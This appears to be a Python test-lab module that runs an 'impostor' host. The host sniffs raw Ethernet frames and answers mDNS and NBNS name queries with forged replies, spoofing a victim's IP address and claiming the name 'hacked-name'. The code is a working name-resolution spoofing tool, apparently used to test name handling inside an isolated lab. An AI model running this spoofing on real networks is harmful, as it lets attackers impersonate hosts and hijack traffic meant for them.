"""A host that answers every question for a name, from its own MAC: as itself, and from the address of another.

Run by `impostor` in the namespace of a host. The question is heard by all (mDNS), or by the host itself (NBNS): then it
answers for the other all the same, to whom it saw ask before.
"""

import socket
import sys
from ipaddress import ip_address

from tests.core.built_frames import DNS, DNSRR, IP, UDP, Ether
from tests.lab.lan import Host
from tests.lab.program import Program

NAME = "hacked-name"


def impostor(host: Host, victim: str) -> None:
    """Let `host` answer in the name of `victim`, an address, until the lab ends."""
    Program(host.space, "tests.lab.impostor", victim, host.ip).ready()


def by_mdns(number: int, at: str) -> bytes:
    """The answer that the host at that address has this name."""
    record = DNSRR(rrname=ip_address(at).reverse_pointer + ".", type="PTR", rdata=f"{NAME}.local.", ttl=10)
    return bytes(DNS(id=number, qr=1, aa=1, qd=[], an=[record]))


def by_nbns(number: int, _at: str) -> bytes:
    """The answer that the node has this name."""
    record = DNSRR(
        rrname="CK" + "A" * 30 + ".", type=33, rdata=b"\1" + NAME.encode().ljust(15) + b"\0\4\0", ttl=0
    )  # fmt: skip
    return bytes(DNS(id=number, qr=1, aa=1, qd=[], an=[record]))


def main() -> None:
    """VICTIM OWN."""
    hears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    hears.bind(("eth0", 0))
    mac = hears.getsockname()[4].hex(":")
    print("ready", flush=True)
    while True:
        asked = Ether(hears.recv(2048))
        if UDP not in asked or asked[UDP].dport not in (5353, 137) or asked[UDP].sport == asked[UDP].dport:
            continue
        content = by_mdns if asked[UDP].dport == 5353 else by_nbns
        number = int.from_bytes(bytes(asked[UDP].payload)[:2])
        for at in sys.argv[1:]:
            over = IP(src=at, dst=asked[IP].src, ttl=255) / UDP(sport=asked[UDP].dport, dport=asked[UDP].sport)
            hears.send(bytes(Ether(src=mac, dst=asked.src) / over / content(number, at)))


if __name__ == "__main__":
    main()
